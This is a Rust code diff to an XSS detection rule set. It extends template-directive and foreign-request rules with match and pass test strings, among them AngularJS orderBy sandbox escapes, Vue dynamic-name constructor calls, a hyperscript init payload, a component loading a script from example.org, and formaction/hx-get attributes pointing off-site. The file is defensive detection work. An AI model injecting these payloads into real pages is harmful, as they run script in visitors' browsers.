@@ -86,6 +86,11 @@ pub(super) static TEMPLATE_DIRECTIVE: Rule = Rule {
         "<a @click=\"alert(1)\">",
         "<x v-on:click='$event.view.alert(1)'>",
         "<div x-data='alert(1)'>",
+        "<x :[_b.constructor`alert(1)`()]>",
+        "<component :is=\"'script'\" src=//example.org></component>",
+        "<div _='init alert(1)'>",
+        "{{[1]|orderBy:'(z=alert)(1)'}}",
+        "<i ng-focus=$event.path|orderBy:'[].constructor.from([1],alert)'>",
     ],
     passes: &[
         "<a @click=\"save(item)\">",
@@ -94,6 +99,36 @@ pub(super) static TEMPLATE_DIRECTIVE: Rule = Rule {
         "<p ng-if=\"item.open\">",
         "<x v-on:click='close'>",
         "<b data-alert='alert'>",
+        "<component :is=\"view\">",
+        "<p is='fancy-text'>",
+        "<div _='on click toggle .open'>",
+        "{{ rows | orderBy:'-date' }}",
+        "{{ rows | orderBy: 'rank()' }}",
+    ],
+};
+
+pub(super) static FOREIGN_REQUEST: Rule = Rule {
+    id: "xss.foreign-request",
+    class: Class::Xss,
+    severity: Severity::High,
+    cwe: 79,
+    // Buttons and fragments of an honest page talk to the page's own site.
+    paranoia: Paranoia::One,
+    summary: "an attribute that sends a form to another site, or loads a piece of the page from there",
+    details: "\
+Finds `formaction` with a host, which sends what somebody types into the page's own form elsewhere, and the requests of htmx
+(`hx-get` and its kin) to a host, whose answer becomes part of the page.",
+    matches: &[
+        "<button formaction=//example.org>X",
+        "<input type=submit formaction='https://example.org/a'>",
+        "<div hx-get=//example.org hx-trigger=load>",
+        "<div data-hx-post=\"https://example.org/x\">",
+    ],
+    passes: &[
+        "<button formaction=\"/save\">Save</button>",
+        "<div hx-get=\"/items\" hx-trigger=\"load\">",
+        "<form action=\"https://example.org/\">",
+        "formaction=//example.org",
     ],
 };
 
@@ -172,6 +207,14 @@ pub(super) fn judge(element: Element, attribute: &Attribute<'_>, place: Place, s
     {
         hits.add(&super::elements::EVASIVE_MARKUP);
     }
+    // Vue runs what is in the brackets of a name: `:[x]`, `#[x]`.
+    if place == Place::Tag
+        && attribute.name.contains(&b'[')
+        && matches!(attribute.name, [b':' | b'#' | b'@' | b'v' | b'V', ..])
+        && script::leaves_template(attribute.name)
+    {
+        hits.add(&TEMPLATE_DIRECTIVE);
+    }
     if value.is_empty() && !attribute.name.windows(2).take(4).any(|start| start.eq_ignore_ascii_case(b"on")) {
         return;
     }
@@ -208,6 +251,9 @@ pub(super) fn judge(element: Element, attribute: &Attribute<'_>, place: Place, s
             }
         }
         b"id" | b"name" if element != Element::Unknown && is_member_of_nodes(value) => hits.add(&DOM_CLOBBERING),
+        b"is" | b":is" | b"v-bind:is" if is_script_name(value) => hits.add(&TEMPLATE_DIRECTIVE),
+        // Hyperscript.
+        b"_" if script::leaves_template(value) => hits.add(&TEMPLATE_DIRECTIVE),
         b"dataformatas" | b"datasrc" | b"allowscriptaccess" => hits.add(&super::elements::LEGACY_ELEMENT),
         _ => {}
     }
@@ -217,6 +263,9 @@ pub(super) fn judge(element: Element, attribute: &Attribute<'_>, place: Place, s
     }
     if attribute.quote == Quote::None && value.starts_with(b"&#") && url::is_cut_scheme(value) {
         hits.add(&super::links::SCRIPT_URL);
+    }
+    if sends(name) && has_host(value) {
+        hits.add(&FOREIGN_REQUEST);
     }
     if is_directive(name) && script::leaves_template(value) {
         hits.add(&TEMPLATE_DIRECTIVE);
@@ -246,11 +295,7 @@ fn note(element: Element, name: &[u8], value: &[u8], seen: &mut Seen) {
             seen.loads = true;
             seen.unsafe_frame |=
                 name == b"src" && value.get(..7).is_some_and(|start| start.eq_ignore_ascii_case(b"http://"));
-            let decoded =
-                || Decoded::new(value).filter(|byte| *byte > b' ').map(|byte| if byte == b'\\' { b'/' } else { byte });
-            let scheme =
-                decoded().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.')).count();
-            let has_host = decoded().take(2).eq(*b"//") || decoded().nth(scheme) == Some(b':');
+            let has_host = has_host(value);
             seen.loads_from_host |= has_host;
             seen.open_query = has_host && matches!(value.last(), Some(b'?' | b'=' | b'&'));
         }
@@ -282,6 +327,31 @@ fn note(element: Element, name: &[u8], value: &[u8], seen: &mut Seen) {
             seen.header |= (0..value.len()).any(|at| odd(value.get(at..).unwrap_or_default()));
         }
     }
+}
+
+/// Whether a URL names a host, or a scheme.
+fn has_host(value: &[u8]) -> bool {
+    let decoded =
+        || Decoded::new(value).filter(|byte| *byte > b' ').map(|byte| if byte == b'\\' { b'/' } else { byte });
+    let scheme =
+        decoded().take_while(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'-' | b'.')).count();
+    decoded().take(2).eq(*b"//") || decoded().nth(scheme) == Some(b':')
+}
+
+/// Whether the attribute's URL is asked for by a script of the page, or gets what somebody types into its form.
+fn sends(name: &[u8]) -> bool {
+    let name = name.strip_prefix(b"data-").unwrap_or(name);
+    matches!(name, b"formaction" | b"hx-get" | b"hx-post" | b"hx-put" | b"hx-patch" | b"hx-delete")
+}
+
+/// Whether the value is `script`, perhaps as a string.
+fn is_script_name(value: &[u8]) -> bool {
+    let value = value.trim_ascii();
+    let value = match value {
+        [b'\'' | b'"' | b'`', inside @ .., b'\'' | b'"' | b'`'] => inside,
+        _ => value,
+    };
+    value.eq_ignore_ascii_case(b"script")
 }
 
 /// Whether scripts ask nodes for a member of that name, which nothing else is called.
